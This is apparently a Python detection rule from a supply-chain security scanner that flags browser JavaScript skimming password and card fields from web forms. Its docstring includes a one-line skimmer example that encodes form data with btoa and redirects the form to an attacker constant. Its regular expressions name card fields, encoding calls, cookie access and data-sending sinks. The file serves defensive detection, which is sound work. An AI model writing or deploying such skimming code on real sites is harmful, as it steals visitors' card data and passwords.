"""A web page's visitors are robbed: what they type into password and card fields is read and sent away.

What it sees
    A script for browsers that picks out fields by what they hold (a password, a card number, a security code), takes
    their values together, encodes them and sends them off in a form's address, an image, a link, a beacon or a request.

Why it matters
    A hijacked library that many sites bundle does this to the visitors of every one of them, and nothing happens on
    the developer's own machine.

Example
    `for (const f of form.elements) if (f.type == "password" || f.name == "cvc") form.action = MINE + btoa(all(form))`

What to do
    Do not ship it. If it was shipped, take the site down, find the versions that were served, and tell the visitors.

False alarms
    Libraries of payment services name such fields and send them to their own service, as one object, without a
    disguise; tools that record sessions name them to leave them out. Neither takes the cookies as well.

References
    ATT&CK T1056.003, T1185, T1041
"""

import re
from collections.abc import Iterator

from lazaretto.detect.jscode import in_tests, phase_of
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.javascript import JavaScriptModule

_REACH = 6_000
"""Bytes around the picking of fields within which the rest must happen."""
_CARD = (
    rb"(?:cvc|cvv|csc|ccv)\d?|card[\s_-]{0,2}(?:number|num|no|cvc|cvv|code|holder)|cc[\s_-]{0,2}(?:num|number|no|cvc|cvv|exp)"
    rb"|security[\s_-]{0,2}code|credit[\s_-]{0,2}card|exp(?:iry|iration)?[\s_-]{0,2}(?:date|month|year)"
)
_QUOTED = rb"[\"'`](?:password|" + _CARD + rb")[\"'`]"
_PICKS = re.compile(
    rb"(?i)(?:"
    # compared: `f.name == "cvc"`, and as minifiers turn it round
    rb"(?:type|name|id|getAttribute\([^)\n]{2,20}\)|toLowerCase\(\))\s{0,3}={2,3}\s{0,3}" + _QUOTED
    + rb"|" + _QUOTED + rb"\s{0,3}={2,3}\s{0,3}[\w$.\[\]]{1,60}?(?:type|name|id|getAttribute|toLowerCase)\b"
    # matched: `/cvv|cardnum/i.test(f.name)`, `f.name.includes("cvv")`
    rb"|/[^/\n]{0,80}(?:" + _CARD + rb")[^/\n]{0,120}/\w{0,3}\.test\("
    rb"|\.(?:includes|indexOf|match|startsWith)\(\s{0,3}[\"'`](?:password|" + _CARD + rb")"
    # selected: `input[type=password]`, `input[name*=card]`
    rb"|input\[\s{0,3}(?:type\s{0,3}=\s{0,3}\\?[\"']?password"
    rb"|(?:name|id|autocomplete)[*^$~|]?=\s{0,3}\\?[\"']?(?:cc-|" + _CARD + rb"))"
    rb")"
)  # fmt: skip
_VALUES = re.compile(rb"\.value\b|\[\s{0,3}[\"'`]value[\"'`]\s{0,3}\]|FormData\(|serialize(?:Array)?\(")
_ALL = re.compile(
    rb"\.elements\b|document\.forms|querySelectorAll\(|getElementsByTagName\(|FormData\(|serialize(?:Array)?\("
)
_ENCODES = re.compile(
    rb"\bbtoa\(|\bescape\(|toString\(\s{0,3}(?:16|36|[\"'`](?:base64|hex))|charCodeAt\(|CryptoJS|\.encrypt\("
)
_COOKIES = re.compile(rb"document\.cookie|[\"'`]cookie[\"'`]\s{0,3}\]|localStorage")
_LEAVES = re.compile(
    rb"\.\s{0,3}action\s{0,3}=(?!=)|sendBeacon\(|\.\s{0,3}(?:src|href)\s{0,3}=(?!=)|\bfetch\(|XMLHttpRequest"
    rb"|new WebSocket\(|\$\.(?:post|get|ajax)\("
)
_WAITS = re.compile(
    rb"[\"'`](?:submit|change|blur|input|keyup|keydown|keypress|click|mousedown|unload|beforeunload|DOMContentLoaded|load)[\"'`]"
    rb"|\.on(?:submit|change|blur|input|keyup|click|load)\b|setInterval\(|setTimeout\(|\.submit\("
)
_WORDS = (b"cvc", b"cvv", b"ccnum", b"cc-num", b"cc_num", b"cardnum", b"card-num", b"card_num", b"card num")
"""One of these is near whatever takes cards; compared in lower case."""
_MOST = 50


def check(module: JavaScriptModule) -> Iterator[Match]:
    """At most one match: the place where fields are picked."""
    source = module.source
    for start, end in _places(source.lower()):
        near = source[start:end]
        hit = _PICKS.search(near)
        if hit is not None and all(wanted.search(near) for wanted in (_VALUES, _ALL, _LEAVES, _WAITS, _ENCODES)):
            yield _match(module, start + hit.start(), certain=_COOKIES.search(near) is not None)
            return


def _places(lowered: bytes) -> Iterator[tuple[int, int]]:
    """Yield what lies around the names of card fields, each byte at most once; at most 200 places."""
    found = sorted(at for word in _WORDS for at in _occurrences(lowered, word))
    start = end = 0
    for at in found:
        if at > end:
            if end:
                yield start, end
            start = max(end, at - _REACH)
        end = at + _REACH if at + _REACH - start <= 4 * _REACH else max(end, at)
    if end:
        yield start, end


def _occurrences(text: bytes, word: bytes) -> Iterator[int]:
    at = text.find(word)
    for _ in range(_MOST):
        if at < 0:
            return
        yield at
        at = text.find(word, at + len(word))


def _match(module: JavaScriptModule, start: int, *, certain: bool) -> Match:
    line, column = module.position(start)
    tests = in_tests(module.path)
    return Match(
        N_("collects what visitors type into password and card fields, encodes it and sends it away"),
        line=line,
        column=column,
        excerpt=module.quote(start),
        severity=Severity.MEDIUM if tests else Severity.CRITICAL if certain else Severity.HIGH,
        confidence=Confidence.LOW if tests else Confidence.HIGH if certain else Confidence.MEDIUM,
        phase=phase_of(module.path),
    )


RULE = Rule(
    id="js/skims-forms",
    title=N_("what visitors type is stolen"),
    view=JavaScriptModule,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    phase=Phase.RUN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1056.003", "T1185", "T1041"),
    needles=(
        b"cvc",
        b"cvv",
        b"CVC",
        b"CVV",
        b"ccnum",
        b"cc-num",
        b"cardnum",
        b"cardNum",
        b"CardNum",
        b"card-num",
        b"card_num",
    ),
)
